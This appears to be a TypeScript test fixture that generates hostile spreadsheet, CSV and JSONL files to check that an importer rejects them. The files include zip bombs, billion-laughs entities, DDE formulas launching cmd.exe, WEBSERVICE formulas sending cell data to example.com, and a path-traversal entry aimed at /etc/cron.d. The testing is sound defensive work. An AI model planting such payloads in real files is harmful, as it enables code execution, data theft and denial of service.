import { spawn } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { deflateRawSync } from "node:zlib";
import { biffStream, compoundFile } from "./support/biff.ts";
import { type HandSheet, makeWorkbook, rowsXml } from "./support/ooxml.ts";
import { makeZip } from "../src/zip-fixture.ts";
import type { FileRun } from "./support/read-files.ts";

/** A file that is meant to harm its reader, or to be read as something it is not. */
export interface HostileFile {
  readonly name: string;
  /** What it would do to a reader that trusts it. */
  readonly attack: string;
  make(): Promise<Uint8Array> | Uint8Array;
  /** The code with which it is refused as a whole; or, where it does no harm, how many records it gives. */
  readonly expect: { readonly refusedWith: string } | { readonly records: number };
}

const MB = 2 ** 20;
const TABLE = [
  ["需求名称", "需求内容"],
  ["需求一", "内容一"],
] as const;

const sheetXml = (content: string, head = "") =>
  `${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${content}</worksheet>`;
const book = (sheet: Partial<HandSheet>, further: Omit<Parameters<typeof makeWorkbook>[0], "sheets"> = {}) =>
  makeWorkbook({ ...further, sheets: [{ name: "需求", rows: TABLE, ...sheet }] });
const withFormula = (formula: string) =>
  book({ rows: [TABLE[0], ["需求一", { attributes: 't="str"', xml: `<f>${formula}</f><v>内容一</v>` }]] });
const entry = (name: string, content: string | Uint8Array) => ({ name, content });

/** Each entity ten times the one before: a gigabyte when expanded. */
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${"bcdefghi".replace(/./g, (name, at: number) => `<!ENTITY ${name} "${`&${"abcdefgh"[at]};`.repeat(10)}">`)}]>`;
const WORKBOOK = `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`;
const RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** Entries that all lie over the same bytes, so that a small file declares to hold a large one a thousand times. */
function overlappingZip(entries: number): Uint8Array {
  const packed = deflateRawSync(Buffer.alloc(MB));
  const shared = Buffer.alloc(26);
  shared.writeUInt16LE(20, 0);
  shared.writeUInt16LE(8, 4);
  shared.writeUInt32LE(packed.length, 14);
  shared.writeUInt32LE(MB, 18);
  shared.writeUInt16LE(6, 22);
  const local = Buffer.concat([Buffer.from("PK\x03\x04"), shared, Buffer.from("000000"), packed]);
  const directory = Array.from({ length: entries }, (_, at) =>
    Buffer.concat([
      Buffer.from("PK\x01\x02\x14\x00"),
      shared,
      Buffer.alloc(14),
      Buffer.from(String(at).padStart(6, "0")),
    ]),
  );
  const listing = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, listing, end]);
}

/** A good .xls with a few of its bytes changed. */
function changedXls(change: (file: Buffer) => void): Uint8Array {
  const file = compoundFile(biffStream([{ name: "需求", rows: TABLE }]));
  change(file);
  return file;
}

function biffRecord(id: number, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(id, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([head, data]);
}

const withGlobal = (id: number, data: Buffer) =>
  compoundFile(biffStream([{ name: "需求", rows: TABLE }], { globals: [biffRecord(id, data)] }));

export const HOSTILE_FILES: readonly HostileFile[] = [
  {
    name: "bomb-one-entry.xlsx",
    attack: "a sheet of 64 MB of blanks in a file of 64 kB",
    make: () => book({ xml: sheetXml(" ".repeat(64 * MB)) }),
    expect: { refusedWith: "lists.zip_bomb" },
  },
  {
    name: "bomb-many-entries.xlsx",
    attack: "two thousand parts, each small enough, 128 MB together",
    make: () => {
      const content = Buffer.alloc(65_536);
      return book({}, { entries: Array.from({ length: 2000 }, (_, at) => entry(`xl/media/${at}.bin`, content)) });
    },
    expect: { refusedWith: "lists.zip_bomb" },
  },
  {
    name: "bomb-overlapping.xlsx",
    attack: "eight thousand entries over the same bytes, 8 GB together",
    make: () => overlappingZip(8000),
    expect: { refusedWith: "lists.zip_bomb" },
  },
  {
    name: "bomb-nested.xlsx",
    attack: "a zip of zips of zeros",
    make: () => {
      const inner = makeZip([entry("0", Buffer.alloc(4 * MB))]);
      return makeZip(Array.from({ length: 16 }, (_, at) => entry(`${at}.zip`, inner)));
    },
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "bomb-in-attachment.xlsx",
    attack: "a good list with a nested bomb among its attachments, which nobody opens",
    make: () => book({}, { entries: [entry("xl/embeddings/a.zip", makeZip([entry("0", Buffer.alloc(4 * MB))]))] }),
    expect: { records: 1 },
  },
  {
    name: "too-many-entries.xlsx",
    attack: "12,000 empty parts",
    make: () => book({}, { entries: Array.from({ length: 12_000 }, (_, at) => entry(`xl/media/${at}`, "")) }),
    expect: { refusedWith: "lists.zip_too_many_entries" },
  },
  {
    name: "million-blank-rows.xlsx",
    attack: "a million blank rows below a good one",
    make: () =>
      book({
        xml: sheetXml(
          `<sheetData>${rowsXml(TABLE)}${Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 3}" ht="14.${at % 977}"/>`).join("")}</sheetData>`,
        ),
      }),
    expect: { refusedWith: "lists.too_many_rows" },
  },
  {
    name: "all-columns.xlsx",
    attack: "16,384 columns in every row",
    make: () => book({ rows: [TABLE[0], Array.from({ length: 16_384 }, (_, at) => at), TABLE[1]] }),
    expect: { refusedWith: "lists.too_many_columns" },
  },
  {
    name: "far-cell.xlsx",
    attack: "one cell in the last corner of the sheet, for readers that make room for all before it",
    make: () =>
      book({
        xml: sheetXml(`<sheetData>${rowsXml(TABLE)}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>`),
      }),
    expect: { refusedWith: "lists.too_many_columns" },
  },
  {
    name: "million-merges.xlsx",
    attack: "a million merged cells, for readers that look through all of them for every row",
    make: () =>
      book({
        tail: `<mergeCells>${Array.from({ length: 1_000_000 }, (_, at) => `<mergeCell ref="C${at + 1}:D${at + 1}"/>`).join("")}</mergeCells>`,
      }),
    expect: { refusedWith: "lists.too_many_merges" },
  },
  {
    name: "many-hidden-columns.xlsx",
    attack: "half a million column definitions, each over the whole width",
    make: () => book({ head: `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(150_000)}</cols>` }),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "one-text-a-million-times.xlsx",
    attack: "a text of 32,000 characters, to which 100,000 cells refer",
    make: () =>
      book(
        {
          rows: [
            TABLE[0],
            ...Array.from({ length: 50_000 }, () => [
              { attributes: 't="s"', xml: "<v>0</v>" },
              { attributes: 't="s"', xml: "<v>0</v>" },
            ]),
          ],
        },
        { strings: `<si><t>${"膜 ".repeat(16_000)}</t></si>` },
      ),
    expect: { refusedWith: "lists.too_much_text" },
  },
  {
    name: "many-sheets.xlsx",
    attack: "a thousand sheets that are one part",
    make: () =>
      book(
        {},
        {
          entries: [
            entry(
              "xl/workbook.xml",
              `${WORKBOOK}<sheets>${Array.from({ length: 1000 }, (_, at) => `<sheet name="s${at}" sheetId="${at + 1}" r:id="rId1"/>`).join("")}</sheets></workbook>`,
            ),
          ],
        },
      ),
    expect: { refusedWith: "lists.too_many_sheets" },
  },
  {
    name: "dde.xlsx",
    attack: "a formula that starts a program (DDE)",
    make: () => withFormula("cmd|'/C calc.exe'!A0"),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "dde-on-hidden-sheet.xlsx",
    attack: "the same on a sheet that is hidden",
    make: () =>
      makeWorkbook({
        sheets: [
          { name: "需求", rows: TABLE },
          { name: "x", state: "veryHidden", rows: [[{ xml: "<f>cmd|'/C calc.exe'!A0</f><v>0</v>" }]] },
        ],
      }),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "webservice.xlsx",
    attack: "a formula that sends the list's content to a server",
    make: () => withFormula("_xlfn.WEBSERVICE(&quot;https://example.com/?q=&quot;&amp;A1)"),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "webservice-in-validation.xlsx",
    attack: "the same in the rule of a drop-down list",
    make: () =>
      book({
        tail: '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("https://example.com/"&amp;A1)=""</formula1></dataValidation></dataValidations>',
      }),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "other-workbook.xlsx",
    attack: "a formula that reads another file",
    make: () => withFormula("'C:\\share\\[工资.xlsx]Sheet1'!A1"),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "numbered-link.xlsx",
    attack: "a formula over a linked workbook by its number",
    make: () => withFormula("SUM([1]Sheet1!A1:A9)"),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "external-link.xlsx",
    attack: "a link to a file on somebody's server",
    make: () => book({}, { entries: [entry("xl/externalLinks/externalLink1.xml", "<externalLink/>")] }),
    expect: { refusedWith: "lists.external_links" },
  },
  {
    name: "external-link-elsewhere.xlsx",
    attack: "the same under another name, known by its relationship alone",
    make: () =>
      book(
        {},
        {
          entries: [
            entry("xl/other.xml", "<externalLink/>"),
            entry(
              "xl/_rels/workbook.xml.rels",
              `${RELATIONS}<Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${OFFICE}/externalLink" Target="other.xml"/></Relationships>`,
            ),
          ],
        },
      ),
    expect: { refusedWith: "lists.external_links" },
  },
  {
    name: "defined-name.xlsx",
    attack: "a name that stands for a program's answer (DDE)",
    make: () =>
      book({}, { settings: "<definedNames><definedName name=\"x\">cmd|'/C calc.exe'!A0</definedName></definedNames>" }),
    expect: { refusedWith: "lists.external_links" },
  },
  {
    name: "macros.xlsx",
    attack: "macros in a file that is named as one without",
    make: () => book({}, { entries: [entry("xl/vbaProject.bin", "x")] }),
    expect: { refusedWith: "lists.macros" },
  },
  {
    name: "macro-sheet.xlsx",
    attack: "a macro sheet of Excel 4",
    make: () => book({}, { entries: [entry("xl/macrosheets/sheet1.xml", "<x/>")] }),
    expect: { refusedWith: "lists.macros" },
  },
  ...(
    [
      "xl/worksheets/sheet1.xml",
      "xl/sharedStrings.xml",
      "xl/workbook.xml",
      "xl/styles.xml",
      "xl/_rels/workbook.xml.rels",
      "_rels/.rels",
    ] as const
  ).map(
    (part): HostileFile => ({
      name: `entities-${part.replace(/^.*\//, "").replace(/\.xml|^\./g, "")}${part.startsWith("_") ? "-root" : ""}.xlsx`,
      attack: `entities that expand to a gigabyte, declared in ${part}`,
      make: () =>
        book(
          {},
          {
            strings: "<si><t>x</t></si>",
            styles: "<cellXfs/>",
            entries: [entry(part, `<?xml version="1.0"?>${LAUGHS}<x>&i;</x>`)],
          },
        ),
      expect: { refusedWith: "lists.entities_declared" },
    }),
  ),
  {
    name: "entities-in-utf16.xlsx",
    attack: "the same in another encoding, past guards that search for bytes",
    make: () =>
      book(
        { xml: "" },
        { entries: [entry("xl/worksheets/sheet1.xml", Buffer.from(`\uFEFF${LAUGHS}<x>&i;</x>`, "utf16le"))] },
      ),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "judged-and-used-differ.xlsx",
    attack: "a harmless workbook where guards look, and another where the relationships lead",
    make: () =>
      book(
        {},
        {
          entries: [
            entry(
              "_rels/.rels",
              `${RELATIONS}<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="b/w.xml"/></Relationships>`,
            ),
            entry("b/w.xml", `${WORKBOOK}<sheets><sheet name="需求" sheetId="1" r:id="rId1"/></sheets></workbook>`),
            entry(
              "b/_rels/w.xml.rels",
              `${RELATIONS}<Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="s.xml"/></Relationships>`,
            ),
            entry(
              "b/s.xml",
              sheetXml(
                `<sheetData>${rowsXml([TABLE[0], ["需求一", { xml: "<f>cmd|'/C calc.exe'!A0</f><v>1</v>" }]])}</sheetData>`,
              ),
            ),
          ],
        },
      ),
    expect: { refusedWith: "lists.active_formula" },
  },
  {
    name: "deep.xlsx",
    attack: "two hundred thousand elements inside each other",
    make: () => book({ xml: sheetXml(`<sheetData>${"<a>".repeat(200_000)}${"</a>".repeat(200_000)}</sheetData>`) }),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "huge-attribute.xlsx",
    attack: "an attribute of seven million characters",
    make: () => book({ xml: sheetXml(`<sheetData><row r="1" x="${"甲".repeat(2_500_000)}"/></sheetData>`) }),
    expect: { refusedWith: "lists.cell_too_long" },
  },
  {
    name: "many-attributes.xlsx",
    attack: "half a million attributes on one element",
    make: () =>
      book({
        xml: sheetXml(
          `<sheetData><row ${Array.from({ length: 500_000 }, (_, at) => `a${at}=""`).join(" ")}/></sheetData>`,
        ),
      }),
    expect: { refusedWith: "lists.cell_too_long" },
  },
  {
    name: "huge-string.xlsx",
    attack: "one shared text of seven million characters",
    make: () => book({}, { strings: `<si><t>${"x".repeat(7_000_000)}</t></si>` }),
    expect: { refusedWith: "lists.cell_too_long" },
  },
  {
    name: "slow-formula.xlsx",
    attack: "long formulas of brackets and quotation marks, for patterns that go back over them",
    make: () =>
      book({
        rows: [
          TABLE[0],
          ...Array.from({ length: 300 }, (_, at) => [
            `需求${at}`,
            { xml: `<f>${"[".repeat(8000)}${'"'.repeat(8001)}${"[1]a".repeat(900)}</f><v>1</v>` },
          ]),
        ],
      }),
    expect: { records: 300 },
  },
  {
    name: "slow-cells.xlsx",
    attack: "cells of blanks, digits, brackets and commas, for patterns that go back over them",
    make: () => {
      const parts = [" ", "9", "(", "1,", "一", "\n ", "1."].map((part) => part.repeat(20_000 / part.length));
      const header = ["需求名称", "需求内容", "预算", "期望完成时间", "联系电话", "统一社会信用代码", "联系人"];
      return book({
        rows: [
          header,
          ...parts.flatMap((part) =>
            [0, 1].map((at) => header.map((_name, column) => (column === 0 ? `需求${at}` : part) + part)),
          ),
        ],
      });
    },
    expect: { records: 12 },
  },
  {
    name: "html.xls",
    attack: "a web page under the name of a workbook, as export programs write it",
    make: () => Buffer.from("<html><table><tr><td>需求名称</td></tr></table></html>"),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "word.xlsx",
    attack: "a Word document under the name of a workbook",
    make: () =>
      makeZip([
        entry("[Content_Types].xml", "<Types/>"),
        entry(
          "_rels/.rels",
          `${RELATIONS}<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
        ),
        entry("word/document.xml", "<document/>"),
      ]),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "workbook.csv",
    attack: "a workbook under the name of a text file",
    make: () => book({}),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "picture.xlsx",
    attack: "a picture under the name of a workbook",
    make: () => Buffer.concat([Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), Buffer.alloc(2000, 7)]),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "picture.csv",
    attack: "a picture under the name of a text file",
    make: () => Buffer.concat([Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), Buffer.alloc(2000, 7)]),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "report.xls",
    attack: "a PDF under the name of a workbook",
    make: () => Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj"),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "program.xlsx",
    attack: "a program under the name of a workbook",
    make: () => Buffer.concat([Buffer.from("MZ\x90\x00"), Buffer.alloc(4000, 1)]),
    expect: { refusedWith: "lists.file_content_differs" },
  },
  {
    name: "list.xlsm",
    attack: "a kind of file that may carry macros",
    make: () => book({}),
    expect: { refusedWith: "lists.file_kind_unknown" },
  },
  {
    name: "empty.xlsx",
    attack: "nothing at all",
    make: () => Buffer.alloc(0),
    expect: { refusedWith: "lists.file_empty" },
  },
  {
    name: "password.xlsx",
    attack: "content that only a password opens",
    make: () => compoundFile(Buffer.alloc(4096, 5), { name: "EncryptedPackage" }),
    expect: { refusedWith: "lists.file_encrypted" },
  },
  {
    name: "path-traversal.xlsx",
    attack: "an entry that leads out of the folder in which it is unpacked",
    make: () => book({}, { entries: [entry("xl/../../../etc/cron.d/x", "x")] }),
    expect: { refusedWith: "lists.zip_unsafe_name" },
  },
  {
    name: "duplicate-sheet.xlsx",
    attack: "the same sheet twice, one for the guard and one for the reader",
    make: () => {
      const sheet = (text: string) =>
        entry("xl/worksheets/sheet1.xml", sheetXml(`<sheetData>${rowsXml([TABLE[0], [text, text]])}</sheetData>`));
      return book({}, { entries: [sheet("好"), sheet("坏")] });
    },
    expect: { refusedWith: "lists.zip_duplicate_name" },
  },
  {
    name: "lying-size.xlsx",
    attack: "a sheet of 32 MB that declares 1,000 bytes",
    make: () => book({}, { entries: [{ ...entry("xl/worksheets/sheet1.xml", Buffer.alloc(32 * MB)), size: 1000 }] }),
    expect: { refusedWith: "lists.zip_part_damaged" },
  },
  {
    name: "truncated.xlsx",
    attack: "the first half of a workbook",
    make: () => {
      const whole = book({});
      return whole.subarray(0, whole.length / 2);
    },
    expect: { refusedWith: "lists.zip_damaged" },
  },
  {
    name: "half-a-sheet.xlsx",
    attack: "a sound zip with a sheet that breaks off in the middle, for readers that take what there is",
    make: () => book({ xml: sheetXml(`<sheetData>${rowsXml(TABLE)}`).replace("</worksheet>", '<row r="3"><c') }),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "missing-text.xlsx",
    attack: "cells that refer to a shared text that is not there, for readers that leave them empty",
    make: () =>
      book(
        { rows: [TABLE[0], ["需求一", { attributes: 't="s"', xml: "<v>7</v>" }]] },
        { strings: "<si><t>x</t></si>" },
      ),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "cells-out-of-place.xlsx",
    attack: "cells that say they stand in another row than the one they stand in",
    make: () =>
      book({
        xml: sheetXml(
          `<sheetData>${rowsXml([TABLE[0]])}<row r="2"><c r="A9" t="inlineStr"><is><t>需求</t></is></c></row></sheetData>`,
        ),
      }),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "one-line.csv",
    attack: "one line of 50 MB",
    make: () => Buffer.alloc(50 * MB, "x"),
    expect: { refusedWith: "lists.cell_too_long" },
  },
  {
    name: "million-commas.csv",
    attack: "a million commas in one line",
    make: () => Buffer.from(`需求名称,需求内容\n需求一,内容一\n${",".repeat(1_000_000)}\n`),
    expect: { refusedWith: "lists.too_many_columns" },
  },
  {
    name: "million-lines.csv",
    attack: "a million blank lines",
    make: () => Buffer.from(`需求名称,需求内容\n需求一,内容一\n${"\n".repeat(1_000_000)}`),
    expect: { refusedWith: "lists.too_many_rows" },
  },
  {
    name: "open-quotes.csv",
    attack: "a hundred thousand quotation marks that nobody closes, for readers that look for the end of each",
    make: () =>
      Buffer.from(
        `需求名称,需求内容\n需求一,内容一\n${'""x\n'.repeat(50_000)}${'"x\n'.repeat(50_000)}${'""""\n'.repeat(50_000)}"`,
      ),
    expect: { records: 2 },
  },
  {
    name: "deep.jsonl",
    attack: "a hundred thousand open brackets",
    make: () =>
      Buffer.from(
        `${"[".repeat(100_000)}\n{"title":"需求一","content":${"[".repeat(100_000)}${"]".repeat(100_000)}}\n`,
      ),
    expect: { records: 1 },
  },
  {
    name: "many-keys.jsonl",
    attack: "an object of a hundred thousand keys",
    make: () => Buffer.from(`{"title":"x",${Array.from({ length: 100_000 }, (_, at) => `"k${at}":1`).join()}}`),
    expect: { refusedWith: "lists.too_many_columns" },
  },
  {
    name: "garbage.xls",
    attack: "garbage behind the first bytes of a workbook",
    make: () => {
      const bytes = Buffer.alloc(200_000);
      for (let at = 0; at < bytes.length; at++) bytes[at] = (at * 2_654_435_761) >>> 24;
      Buffer.from("d0cf11e0a1b11ae1", "hex").copy(bytes);
      return bytes;
    },
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "cyclic-chain.xls",
    attack: "a chain of sectors that leads back to its beginning",
    make: () => changedXls((file) => file.writeUInt32LE(0, file.length - 512)),
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "cyclic-directory.xls",
    attack:
      "a list of sectors of sectors that leads back to itself, for readers that gather what it holds again and again",
    make: () => {
      const file = Buffer.concat([changedXls(() => {}), Buffer.alloc(4 * MB)]);
      const sector = 20;
      file.writeUInt32LE(0x7fff_ffff, 44);
      file.writeUInt32LE(sector, 68);
      file.writeUInt32LE(0x7fff_ffff, 72);
      for (let at = 0; at < 127; at++) file.writeUInt32LE(1, (sector + 1) * 512 + at * 4);
      file.writeUInt32LE(sector, (sector + 2) * 512 - 4);
      return file;
    },
    expect: { refusedWith: "lists.file_damaged" },
  },
  {
    name: "many-records.xls",
    attack: "a million and a half empty records",
    make: () =>
      compoundFile(
        Buffer.concat([biffStream([{ name: "需求", rows: TABLE }]), Buffer.alloc(6 * MB, Buffer.from([1, 1, 0, 0]))]),
      ),
    expect: { refusedWith: "lists.too_many_cells" },
  },
  {
    name: "password.xls",
    attack: "content that only a password opens",
    make: () => withGlobal(0x2f, Buffer.alloc(6)),
    expect: { refusedWith: "lists.file_encrypted" },
  },
  {
    name: "macros.xls",
    attack: "macros",
    make: () => withGlobal(0xd3, Buffer.alloc(0)),
    expect: { refusedWith: "lists.macros" },
  },
  {
    name: "external-link.xls",
    attack: "a link to another workbook",
    make: () => withGlobal(0x1ae, Buffer.from("01000c000001687474703a2f2f", "hex")),
    expect: { refusedWith: "lists.external_links" },
  },
  {
    name: "one-sheet-many-names.xls",
    attack: "a thousand sheets in one place",
    make: () => {
      const bound = biffRecord(0x85, Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 0, 1, 0]), Buffer.from("s")]));
      return compoundFile(
        biffStream([{ name: "需求", rows: TABLE }], { globals: Array.from({ length: 1000 }, () => bound) }),
      );
    },
    expect: { refusedWith: "lists.file_damaged" },
  },
];

/** How the reading of one hostile file went. */
export interface HostileMeasurement extends FileRun {
  readonly name: string;
  readonly expected: string;
  readonly bytes: number;
}

const GUARD_MS = 60_000;

/**
 * Reads the hostile files in processes of their own, so that one that hangs or bursts takes nobody along.
 * @param perProcess 1 for figures that no other file has a part in
 */
export async function measureHostile(
  files: readonly HostileFile[] = HOSTILE_FILES,
  perProcess = 1,
): Promise<HostileMeasurement[]> {
  const folder = await mkdtemp(join(tmpdir(), "dual-high-hostile-"));
  try {
    const written: { file: HostileFile; path: string; bytes: number }[] = [];
    for (const file of files) {
      const bytes = await file.make();
      const path = join(folder, file.name);
      await writeFile(path, bytes);
      written.push({ file, path, bytes: bytes.length });
    }
    const measured: HostileMeasurement[] = [];
    for (let at = 0; at < written.length; at += perProcess) {
      const batch = written.slice(at, at + perProcess);
      const runs = await readInChild(batch.map(({ path }) => path));
      for (const [index, { file, bytes }] of batch.entries()) {
        const expected = "records" in file.expect ? `${file.expect.records} records` : file.expect.refusedWith;
        measured.push({ name: file.name, expected, bytes, ...(runs[index] ?? { got: "not reached", ms: 0, mb: 0 }) });
      }
    }
    return measured;
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

function readInChild(paths: readonly string[]): Promise<FileRun[]> {
  const script = join(import.meta.dirname, "support/read-files.ts");
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ["--max-old-space-size=512", script, ...paths], {
      stdio: ["ignore", "pipe", "pipe"],
      timeout: GUARD_MS,
      killSignal: "SIGKILL",
    });
    let out = "";
    let complaint = "";
    child.stdout.setEncoding("utf8").on("data", (text: string) => (out += text));
    child.stderr.setEncoding("utf8").on("data", (text: string) => (complaint += text));
    child.on("error", reject);
    child.on("close", (_, signal) => {
      const runs = out.split("\n").flatMap((line) => (line === "" ? [] : [JSON.parse(line) as FileRun]));
      if (runs.length < paths.length) {
        runs.push({
          got: signal === "SIGKILL" ? "killed: it hung" : `crash: ${complaint.slice(0, 400)}`,
          ms: GUARD_MS,
          mb: 0,
        });
      }
      resolve(runs);
    });
  });
}
